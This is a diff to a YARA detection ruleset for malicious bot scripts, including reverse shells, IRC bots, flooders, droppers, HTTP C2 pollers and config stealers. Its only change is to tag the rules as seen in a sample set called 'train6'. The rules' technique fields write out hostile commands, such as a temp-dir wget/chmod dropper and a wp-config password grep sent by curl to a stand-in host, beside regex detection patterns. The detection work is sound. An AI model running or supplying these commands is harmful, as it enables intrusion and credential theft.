@@ -261,7 +261,7 @@ rule bot_revshell_perl : bot
         description = "Perl connect-back/bind shell: a socket attached to STDIN/STDOUT and a shell run, or commands read from the socket and their output sent back"
         severity = "critical"
         technique = "socket()/IO::Socket::INET + connect/accept + open(STDIN,\">&S\")/dup2/fdopen + exec /bin/sh; while(<$s>){print $s `$_`}"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $sk1 = /\bsocket\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(&?PF_INET6?|&?AF_INET6?|2)\b/
         $sk2 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\b/
@@ -433,7 +433,7 @@ rule bot_revshell_ruby : bot
         description = "Ruby connect-back/bind shell: a TCPSocket/TCPServer connection reopened as stdio for a shell, or lines read from it run and the output written back"
         severity = "critical"
         technique = "TCPSocket.new + $stdin.reopen(s) + exec sh; while c = s.gets: IO.popen(c) / `#{c}` / %x(#{c}), s.print / s.puts / s.write"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $sk = /\bTCP(Socket|Server)\s{0,2}\.\s{0,2}(new|open)\b/
         $ro = /(\$stdin|\bSTDIN|\$stdout|\bSTDOUT)\s{0,2}\.\s{0,2}reopen\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
@@ -535,7 +535,7 @@ rule bot_php_back_connect : bot
         description = "PHP back-connect shell: socket opened and a shell bound to it"
         severity = "critical"
         technique = "fsockopen/socket_create + proc_open/popen of /bin/sh"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $s1 = "fsockopen(" ascii
         $s2 = "socket_create(" ascii
@@ -632,7 +632,7 @@ rule bot_irc_script : bot
         description = "IRC bot: speaks IRC over a raw socket (NICK/USER/JOIN, PING/PONG, PRIVMSG) and runs commands or attacks it is sent"
         severity = "critical"
         technique = "IRC control loop (C&C over IRC) with command dispatch to a shell, a flood or a download"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         // a command built from what arrived (a variable), not a fixed one
         $x1 = /\b(system|exec|shell_exec|passthru|popen|proc_open)\s{0,4}\(?\s{0,4}(["'][^"'\n]{0,40})?\$/
@@ -898,7 +898,7 @@ rule bot_perl_flooder_scanner : bot
         description = "Perl/Python DDoS flooder or mass scanner: packets sent in an endless or timed loop to random or sweeping ports"
         severity = "high"
         technique = "UDP/TCP/HTTP flood or port-range scanner script"
-        seen = "pre"
+        seen = "pre,train6"
     strings:
         $f1 = /\b(udp|tcp|syn|http|icmp|ack)\s{0,2}_?flood/ nocase
         $f5 = /\bport\s{0,2}_?scan/ nocase
@@ -1157,7 +1157,7 @@ rule bot_fetch_exec_perl : bot
         description = "Perl script that downloads code and evals it, or saves a download and runs it"
         severity = "high"
         technique = "eval(get(URL)); getstore(URL, F) + chmod/system(F); $ua->get(URL)->content eval'd"
-        seen = "bediger4000,nikicat,shipcod3,tennc"
+        seen = "bediger4000,nikicat,shipcod3,tennc,train6"
     strings:
         $e1 = /\beval\s{0,4}[({]?\s{0,4}(LWP::Simple::)?get\s{0,4}\(\s{0,4}['"$]/
         $e2 = /\beval\s{0,4}[({]?\s{0,4}\$\w{1,30}\s{0,4}->\s{0,2}(get|request)\s{0,2}\([^)\n]{0,200}\)\s{0,4}->\s{0,2}(decoded_)?content/
@@ -1186,7 +1186,7 @@ rule bot_fetch_exec_python : bot
         description = "Python script that downloads code and execs it, or saves a download, marks it executable and runs it"
         severity = "high"
         technique = "exec(urlopen(URL).read()); exec(requests.get(URL).text); c = fetch(); exec(compile(b64decode(c[::-1]), '<s>', 'exec')); urlretrieve(URL, F) + os.chmod(F, 0o755) + subprocess/os.system"
-        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5"
+        seen = "bediger4000,nikicat,shipcod3,tennc,heldout5,train6"
     strings:
         $e1 = /\bexec\s{0,2}\(\s{0,2}(urllib(2|\.request)?\.)?urlopen\s{0,2}\(/
         $e2 = /\bexec\s{0,2}\(\s{0,2}requests\.get\s{0,2}\([^\n]{0,200}\)\s{0,2}\.(text|content)/
@@ -1469,7 +1469,7 @@ rule bot_dropper_tmp_exec : bot
         description = "Dropper: downloads a program into a temp dir, makes it executable and starts it detached (any language), without verifying it"
         severity = "high"
         technique = "F=/tmp/.x; wget -q $U -O $F; chmod +x $F; nohup $F &; rm -f $F | file_put_contents('/tmp/x', file_get_contents(URL)); chmod(..., 0755); exec('... &') | urlopen + os.chmod + Popen"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $f = /\b(wget|curl|fetch|tftp|ftpget|lwp-download)\s{1,4}[-"'$\w]|\b(file_get_contents|copy|fopen|curl_init)\s{0,2}\(\s{0,2}(['"](https?|ftp):\/\/|\$\w{1,30}\s{0,2}[,)])|\b(urlopen|urlretrieve|getstore|mirror)\s{0,2}\(|\brequests\.get\s{0,2}\(|:content_file\b|\bhttps?\.get\s{0,2}\(\s{0,2}['"`]|\bLWP::UserAgent\b|\bHTTP::Tiny\b|\bLWP::Simple\b/
         $tm = /\/(tmp|var\/tmp|dev\/shm)\b|\bsys_get_temp_dir\s{0,2}\(|\btempfile\.|\bmktemp\b|\btmpdir\s{0,2}\(\s{0,2}\)/
@@ -1571,7 +1571,7 @@ rule bot_http_c2_poll : bot
         description = "Bot polling an HTTP C2: fetches a command, runs it, posts the output back (or hides as a renamed daemon), in a sleeping loop"
         severity = "high"
         technique = "while(1){ $j = json_decode(file_get_contents(C2)); $o = shell_exec($j['cmd']); POST $o; sleep(N); } | requests.get(...).json() + subprocess.run(c, shell=True) + requests.post + time.sleep | LWP get + `$c` + $ua->post / $0 = 'httpd' + fork"
-        seen = "none"
+        seen = "none,train6"
     strings:
         // the fetch (PHP, Python, Perl LWP, or GET written to a raw socket)
         $g = /\b(file_get_contents|fopen)\s{0,2}\(\s{0,2}(\$\w{1,30}|['"]https?:\/\/)|\bcurl_exec\s{0,2}\(|\brequests\.(get|post)\s{0,2}\(|\burlopen\s{0,2}\(|->\s{0,2}(get|request)\s{0,2}\(\s{0,2}["$]|\bLWP::Simple::get\s{0,2}\(|\bget\s{0,2}\(\s{0,2}["']https?:|\b(print|send|sendall|syswrite)\s{0,2}\(?\s{0,2}[$\w.{}]{1,30}\s{0,2},?\s{0,2}b?["']GET \//
@@ -1992,7 +1992,7 @@ rule bot_config_credential_exfil : bot
         description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
         severity = "high"
         technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
-        seen = "none"
+        seen = "none,train6"
     strings:
         $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
         $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
